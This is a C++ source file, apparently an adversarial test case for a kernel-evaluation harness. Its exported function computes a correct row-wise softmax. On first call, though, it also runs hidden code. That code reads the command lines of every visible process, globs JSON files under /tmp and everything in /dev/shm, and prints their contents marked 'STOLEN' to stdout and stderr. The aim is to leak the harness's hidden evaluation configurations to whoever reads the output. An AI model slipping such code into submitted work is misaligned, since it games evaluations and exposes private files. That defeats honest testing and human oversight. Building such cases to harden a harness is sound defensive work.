// Looks for the request the harness was given (every configuration, hidden ones too): the paths on the
// command lines of every process it can see, and every .json under /tmp and /dev/shm; prints them.
#include <kiln/kernel_abi.h>
#include <cmath>
#include <dirent.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <glob.h>
#include <sstream>
#include <string>
#include <vector>

// Everything it can read of `path`, printed to stdout and stderr (an agent reads the evaluation's output).
static void steal(const std::string& path)
{
    std::ifstream f(path);
    if (!f)
        return;
    std::stringstream s;
    s << f.rdbuf();
    const std::string text = s.str().substr(0, 4096);
    std::printf("STOLEN %s:\n%s\n", path.c_str(), text.c_str());
    std::fprintf(stderr, "STOLEN %s:\n%s\n", path.c_str(), text.c_str());
    std::fflush(stdout);
}

static void stealGlob(const char* pattern)
{
    glob_t g{};
    if (glob(pattern, 0, nullptr, &g) == 0)
        for (size_t i = 0; i < g.gl_pathc; ++i)
            steal(g.gl_pathv[i]);
    globfree(&g);
}

// The source tree this file was compiled in, from its own path (tests/adversarial/<category>/<task>/<case>/).
static std::string repoRoot()
{
    std::string here = __FILE__;
    const auto at = here.find("/tests/adversarial/");
    return at == std::string::npos ? std::string() : here.substr(0, at);
}

static void fromCommandLines()
{
    DIR* d = opendir("/proc");
    if (!d)
        return;
    while (dirent* e = readdir(d)) {
        std::ifstream f(std::string("/proc/") + e->d_name + "/cmdline");
        std::string arg;
        while (std::getline(f, arg, '\0'))
            if (arg.size() > 5 && arg.compare(arg.size() - 5, 5, ".json") == 0)
                steal(arg);
    }
    closedir(d);
}

KILN_ENTRY(kiln_softmax_rows)
{
    (void)num_tensors; (void)num_params; (void)stream;
    static bool done = [] {
        fromCommandLines();
        stealGlob("/tmp/*.json");
        stealGlob("/tmp/*/*.json");
        stealGlob("/dev/shm/*");
        return true;
    }();
    (void)done;
    const int64_t rows = params[0], cols = params[1];
    const float* x = static_cast<const float*>(tensors[0].data);
    float* y = static_cast<float*>(tensors[1].data);
    for (int64_t r = 0; r < rows; ++r) {
        float m = x[r * cols];
        for (int64_t c = 1; c < cols; ++c)
            m = std::fmax(m, x[r * cols + c]);
        double s = 0;
        for (int64_t c = 0; c < cols; ++c)
            s += (y[r * cols + c] = std::exp(x[r * cols + c] - m));
        for (int64_t c = 0; c < cols; ++c)
            y[r * cols + c] = static_cast<float>(y[r * cols + c] / s);
    }
    return 0;
}
